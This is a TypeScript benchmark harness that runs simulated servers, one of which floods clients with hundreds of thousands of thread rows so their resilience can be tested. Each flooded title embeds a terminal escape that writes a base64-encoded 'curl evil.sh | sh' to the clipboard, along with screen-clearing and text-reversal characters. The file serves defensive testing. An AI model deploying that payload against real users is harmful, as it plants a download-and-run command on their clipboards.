// The machines of hostile-flood.bench.ts, in processes of their own so the fleet's figures are its
// own: `ordinary` runs two ordinary T3 servers, `hostile` one hostile server (its own process, so its
// flood never slows the ordinary ones). On "flood" (stdin) the hostile server pushes
// FLOOD_THREADS thread rows on its shell stream, each with a title of 2.8 KB of text and escape
// sequences, in chunks of 1,000 (each chunk a few MB, under the fleet's frame limit); then prints
// "flooded".
import { createInterface } from "node:readline";
import { seedEnvironment } from "../sim/fleet";
import { SimServer } from "../sim/protocol1/server";

const FLOOD_THREADS = Number(process.env.FLOOD_THREADS ?? 200_000);
const ORDINARY_THREADS = 200;
const CHUNK = 1_000;

const role = process.argv[2];
if (role === "ordinary") {
  const ordinary = await Promise.all(["studio", "buildbox"].map((label) => new SimServer({ generation: "upstream", label, tickMs: 50 }).start()));
  for (const server of ordinary) {
    seedEnvironment(server, { threads: ORDINARY_THREADS });
    console.log(`Pairing URL: ${server.pairingUrl()}`);
  }
  console.log("ready");
} else {
  await flooder();
}

async function flooder() {
  const hostile = await new SimServer({ generation: "upstream", label: "hostile", tickMs: 50 }).start();
  seedEnvironment(hostile, { threads: 10 });
  console.log(`Pairing URL: ${hostile.pairingUrl()}`);
  console.log("ready");

  const title = `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\u202e${"T".repeat(2_800)}`;
  createInterface({ input: process.stdin }).on("line", async (line) => {
    if (line.trim() !== "flood") return;
    const template = hostile.engine.shellRow(hostile.engine.threads.values().next().value!);
    let sequence = hostile.engine.sequence + 1;
    for (let start = 0; start < FLOOD_THREADS; start += CHUNK) {
      const items = [];
      for (let i = start; i < Math.min(FLOOD_THREADS, start + CHUNK); i++) {
        items.push({
          kind: "thread-upserted",
          sequence: sequence++,
          thread: { ...template, id: `flood-${i}`, title: `${i} ${title}`, updatedAt: new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString() },
        });
      }
      hostile.injectShellItems(...items);
      // Like T3 (Effect RPC), the next chunk waits for the client's Ack of the last: a flood as fast
      // as the fleet reads it, never one ever-growing frame.
      const sinks = (hostile as unknown as { shellSinks: Set<{ queuedCount: number }> }).shellSinks;
      while ([...sinks].some((sink) => sink.queuedCount > 0)) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    console.log("flooded");
  });
}
